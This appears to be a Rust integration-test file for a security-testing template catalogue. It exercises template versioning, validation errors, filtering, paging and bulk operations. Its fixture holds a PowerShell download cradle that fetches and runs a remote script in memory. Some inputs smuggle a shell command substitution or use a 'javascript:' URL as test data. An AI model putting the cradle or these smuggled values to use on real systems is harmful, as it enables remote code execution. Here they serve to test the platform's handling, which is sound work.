//! Templates of tests: written, revised, switched, retired, and made into drafts.

use crate::app::TestApp;
use crate::client::{User, global_id};
use crate::story::{POWERSHELL, id_of};
use aegis_aggregates::actor::Role;
use serde_json::{Value, json};
use uuid::Uuid;

const NOBODYS: &str = "00000000-0000-4000-8000-000000000000";

pub fn template() -> Value {
    json!({
        "name": "Download cradle",
        "description": "Fetches a script and runs it in memory.",
        "attackId": POWERSHELL,
        "platforms": ["Windows"],
        "severity": "HIGH",
        "executor": "powershell",
        "procedure": "IEX (New-Object Net.WebClient).DownloadString(#{url}) # as #{user}",
        "cleanup": "Remove-Item #{file}",
        "expectedDetection": "Script block logging raises an alert.",
        "tool": "powershell.exe",
        "tags": ["cradle"],
        "references": ["https://attack.mitre.org/techniques/T1059/001/"],
        "arguments": [
            { "name": "url", "kind": "URL" },
            { "name": "user", "default": "nobody" },
            { "name": "file", "default": "C:\\a.ps1", "kind": "PATH" },
        ],
    })
}

fn with(mut input: Value, more: Value) -> Value {
    let more = more.as_object().expect("fields").clone();
    input.as_object_mut().expect("fields").extend(more);
    input
}

async fn created(by: &User, more: Value) -> String {
    let payload = by.done("createTemplate", with(template(), more)).await;
    payload["template"]["id"].as_str().expect("a template").to_owned()
}

async fn names(by: &User, filter: Value) -> Vec<String> {
    let query = "query ($filter: TestTemplateFilter) {
        testTemplates(first: 100, filter: $filter) { totalCount nodes { name } } }";
    let found = &by.read(query, json!({ "filter": filter })).await["testTemplates"];
    let names: Vec<String> = found["nodes"]
        .as_array()
        .expect("nodes")
        .iter()
        .map(|node| node["name"].as_str().expect("a name").to_owned())
        .collect();
    assert_eq!(found["totalCount"], names.len());
    names
}

#[tokio::test(flavor = "multi_thread")]
async fn a_template_is_revised_in_versions_and_made_into_a_test() {
    let app = TestApp::start().await;
    let (lead, tech) = (app.login(Role::RedLead).await, app.login(Role::RedTech).await);
    let id = created(&lead, json!({})).await;
    let before = lead.read("{ heatmap { position } }", json!({})).await;
    let revised =
        json!({ "id": id, "name": "Cradle", "platforms": ["Windows", "Linux"], "expectedVersion": 1 });
    let revised = lead.done("updateTemplate", revised).await["template"].clone();
    assert_eq!((&revised["version"], &revised["contentVersion"]), (&json!(2), &json!(2)));
    // What is there already is no new version.
    let same = lead.done("updateTemplate", json!({ "id": id, "name": " Cradle " })).await;
    assert_eq!((&same["position"], &same["template"]["contentVersion"]), (&Value::Null, &json!(2)));
    assert!(before["heatmap"]["position"].is_number());

    let value = "'http://x/\"quoted\"'\n`$(id)` #{user}";
    let input = json!({
        "templateId": id,
        "arguments": [{ "name": "url", "value": value }],
        "platform": "Linux",
        "tags": ["q1"],
    });
    let test = id_of(&tech.done("draftTestFromTemplate", input).await);
    let query = "query ($id: ID!) { test(id: $id) {
        title description objective platform tags plannedProcedure plannedTool state technique { attackId }
        template { id name uses } templateVersion retestOf { id } } }";
    let test = tech.read(query, json!({ "id": test })).await["test"].clone();
    let procedure = format!(
        "Procedure:\nIEX (New-Object Net.WebClient).DownloadString({value}) # as nobody\n\nCleanup:\nRemove-Item C:\\a.ps1"
    );
    assert_eq!(
        test,
        json!({
            "title": "Cradle",
            "description": "Fetches a script and runs it in memory.",
            "objective": "Script block logging raises an alert.",
            "platform": "Linux",
            "tags": ["q1"],
            "plannedProcedure": procedure,
            "plannedTool": "powershell.exe",
            "state": "DRAFT",
            "technique": { "attackId": POWERSHELL },
            "template": { "id": id, "name": "Cradle", "uses": 1 },
            "templateVersion": 2,
            "retestOf": null,
        })
    );
    let query = "query ($id: ID!) { node(id: $id) { __typename id ... on TestTemplate {
        source severity references arguments { name default kind } timeline { nodes { type summary } } } } }";
    let node = tech.read(query, json!({ "id": id })).await["node"].clone();
    assert_eq!((&node["__typename"], &node["source"]), (&json!("TestTemplate"), &json!("custom")));
    assert_eq!(node["arguments"][0], json!({ "name": "url", "default": null, "kind": "URL" }));
    let told: Vec<&Value> = node["timeline"]["nodes"].as_array().expect("events").iter().collect();
    assert_eq!(told[1]["summary"], "Revised as version 2");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_wrong_with_a_template_is_told_by_field() {
    let app = TestApp::start().await;
    let lead = app.login(Role::BlueLead).await;
    for (more, code, field, says) in [
        (json!({ "name": " " }), "INVALID_INPUT", "name", "must not be empty"),
        (json!({ "attackId": "T0000" }), "INVALID_INPUT", "attackId", "T0000"),
        (json!({ "procedure": "run #{target}" }), "INVALID_INPUT", "procedure", "#{target}"),
        (json!({ "references": ["javascript:alert(1)"] }), "INVALID_INPUT", "references", "javascript"),
        (json!({ "arguments": [{ "name": "a b" }] }), "INVALID_INPUT", "arguments", "'a b'"),
    ] {
        let refused = lead.refused("createTemplate", with(template(), more)).await;
        assert_eq!((refused.code.as_str(), refused.field.as_str()), (code, field), "{}", refused.message);
        assert!(refused.message.contains(says), "{}", refused.message);
    }
    let id = created(&lead, json!({})).await;
    let stale = lead.refused("updateTemplate", json!({ "id": id, "name": "x", "expectedVersion": 7 })).await;
    assert_eq!(stale.code, "CONFLICT");

    let draft = |arguments: Value| json!({ "templateId": id, "arguments": arguments });
    for (arguments, says) in [
        (json!([]), "'url' needs a value"),
        (json!([{ "name": "url", "value": "x" }, { "name": "host", "value": "y" }]), "no argument 'host'"),
        (json!([{ "name": "url", "value": "x" }, { "name": "url", "value": "y" }]), "given twice"),
        (json!([{ "name": "url", "value": "x".repeat(4_001) }]), "at most 4000"),
    ] {
        let refused = lead.refused("draftTestFromTemplate", draft(arguments)).await;
        assert_eq!((refused.code.as_str(), refused.field.as_str()), ("INVALID_INPUT", "arguments"));
        assert!(refused.message.contains(says), "{}", refused.message);
    }
    lead.done("setTemplatesActive", json!({ "ids": [id], "active": false })).await;
    let given = json!([{ "name": "url", "value": "x" }]);
    let refused = lead.refused("draftTestFromTemplate", draft(given.clone())).await;
    assert_eq!(refused.code, "INVALID_STATE");
    assert!(refused.message.contains("not active"), "{}", refused.message);
    lead.done("retireTemplate", json!({ "id": id, "reason": "Superseded." })).await;
    let refused = lead.refused("draftTestFromTemplate", draft(given)).await;
    assert!(refused.message.contains("retired"), "{}", refused.message);
    assert!(names(&lead, json!({})).await.is_empty());
    assert_eq!(names(&lead, json!({ "includeRetired": true })).await, ["Download cradle"]);

    let unknown = json!({ "templateId": global_id("TestTemplate", NOBODYS) });
    assert_eq!(lead.mutate("draftTestFromTemplate", unknown).await.code(), Some("NOT_FOUND"));
    let viewer = app.login(Role::Viewer).await;
    assert_eq!(viewer.mutate("createTemplate", template()).await.code(), Some("FORBIDDEN"));
    let tech = app.login(Role::RedTech).await;
    assert_eq!(tech.mutate("createTemplate", template()).await.code(), Some("FORBIDDEN"));
}

#[tokio::test(flavor = "multi_thread")]
async fn the_catalogue_is_filtered_searched_and_counted() {
    let app = TestApp::start().await;
    let lead = app.login(Role::RedLead).await;
    created(&lead, json!({ "name": "A" })).await;
    created(&lead, json!({ "name": "B", "severity": "LOW", "platforms": ["Linux", "macOS"], "tags": [] }))
        .await;
    let off = created(&lead, json!({ "name": "C", "attackId": "T1003", "description": "100 % LSASS" })).await;
    lead.done("setTemplatesActive", json!({ "ids": [off], "active": false })).await;

    assert_eq!(names(&lead, json!({})).await, ["C", "A", "B"]);
    assert_eq!(names(&lead, json!({ "active": true })).await, ["A", "B"]);
    assert_eq!(names(&lead, json!({ "severities": ["LOW", "CRITICAL"] })).await, ["B"]);
    assert_eq!(names(&lead, json!({ "platform": "macOS" })).await, ["B"]);
    assert_eq!(names(&lead, json!({ "attackId": " t1003 " })).await, ["C"]);
    assert_eq!(names(&lead, json!({ "search": "100 % l" })).await, ["C"]);
    assert_eq!(names(&lead, json!({ "search": "_" })).await, Vec::<String>::new());
    assert_eq!(names(&lead, json!({ "tag": "cradle" })).await, ["C", "A"]);
    assert_eq!(names(&lead, json!({ "sources": ["custom"] })).await.len(), 3);
    assert_eq!(names(&lead, json!({ "sources": ["atomic-red-team"] })).await.len(), 0);

    let query =
        "{ testTemplateStats { templates active uses bySource { key templates } bySeverity { key templates }
        byPlatform { key templates } } }";
    assert_eq!(
        lead.read(query, json!({})).await["testTemplateStats"],
        json!({
            "templates": 3, "active": 2, "uses": 0,
            "bySource": [{ "key": "custom", "templates": 3 }],
            "bySeverity": [{ "key": "high", "templates": 2 }, { "key": "low", "templates": 1 }],
            "byPlatform": [
                { "key": "Windows", "templates": 2 }, { "key": "Linux", "templates": 1 },
                { "key": "macOS", "templates": 1 },
            ],
        })
    );
    // Pages follow each other.
    let query = "query ($after: String) { testTemplates(first: 2, after: $after) {
        nodes { name } pageInfo { hasNextPage endCursor } totalCount } }";
    let first = lead.read(query, json!({})).await["testTemplates"].clone();
    let second =
        lead.read(query, json!({ "after": first["pageInfo"]["endCursor"] })).await["testTemplates"].clone();
    assert_eq!(
        (&first["pageInfo"]["hasNextPage"], &second["nodes"]),
        (&json!(true), &json!([{ "name": "B" }]))
    );
    assert_eq!(second["totalCount"], 3);
}

#[tokio::test(flavor = "multi_thread")]
async fn many_at_once_have_a_result_each_and_repeating_them_changes_nothing() {
    let app = TestApp::start().await;
    let lead = app.login(Role::RedLead).await;
    let (one, two) = (created(&lead, json!({})).await, created(&lead, json!({ "name": "Two" })).await);
    lead.done("retireTemplate", json!({ "id": two, "reason": "Superseded." })).await;
    let unknown = global_id("TestTemplate", NOBODYS);

    let input = json!({
        "ids": [one, two, unknown, "nonsense"], "active": false, "clientMutationId": Uuid::now_v7(),
    });
    let results = lead.done("setTemplatesActive", input.clone()).await["results"].clone();
    assert_eq!(results[0]["template"], json!({ "active": false, "version": 2 }));
    assert_eq!(results[1]["userErrors"][0]["code"], "INVALID_STATE");
    for index in [2, 3] {
        assert_eq!(results[index]["userErrors"][0]["message"], "There is no such template.");
    }
    assert_eq!(lead.done("setTemplatesActive", input).await["results"], results);
    lead.done("setTemplatesActive", json!({ "ids": [one], "active": true })).await;

    let item = |template: &str, arguments: Value| json!({ "templateId": template, "arguments": arguments });
    let given = json!([{ "name": "url", "value": "x" }]);
    let input = json!({
        "items": [
            item(&one, given.clone()), item(&one, json!([])), item(&two, given.clone()),
            item(&unknown, given.clone()), with(item(&one, given.clone()), json!({ "title": "Another" })),
        ],
        "clientMutationId": Uuid::now_v7(),
    });
    let results = lead.done("draftTestsFromTemplates", input.clone()).await["results"].clone();
    assert_eq!(
        (&results[0]["test"]["title"], &results[4]["test"]["title"]),
        (&json!("Download cradle"), &json!("Another"))
    );
    for (index, field) in [(1, json!("arguments")), (2, Value::Null), (3, json!("templateId"))] {
        assert_eq!(results[index]["test"], Value::Null);
        assert_eq!(results[index]["userErrors"][0]["field"], field);
    }
    let again = lead.done("draftTestsFromTemplates", input).await["results"].clone();
    assert_eq!(again, results);
    let count = lead.read("{ tests { totalCount } }", json!({})).await;
    assert_eq!(count["tests"]["totalCount"], 2);

    let many: Vec<Value> = (0..101).map(|_| item(&one, given.clone())).collect();
    let refused = lead.refused("draftTestsFromTemplates", json!({ "items": many })).await;
    assert_eq!((refused.code.as_str(), refused.field.as_str()), ("INVALID_INPUT", "items"));
    let refused = lead.refused("setTemplatesActive", json!({ "ids": vec![one; 101], "active": true })).await;
    assert!(refused.message.contains("101"), "{}", refused.message);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_repeated_creation_makes_one_template() {
    let app = TestApp::start().await;
    let lead = app.login(Role::RedLead).await;
    let input = with(template(), json!({ "clientMutationId": Uuid::now_v7() }));
    let first = lead.done("createTemplate", input.clone()).await;
    let second = lead.done("createTemplate", input.clone()).await;
    assert_eq!(first["template"]["id"], second["template"]["id"]);
    let other = lead.refused("createTemplate", with(input, json!({ "name": "Another" }))).await;
    assert_eq!(other.code, "CONFLICT");
    assert_eq!(names(&lead, json!({})).await.len(), 1);
}
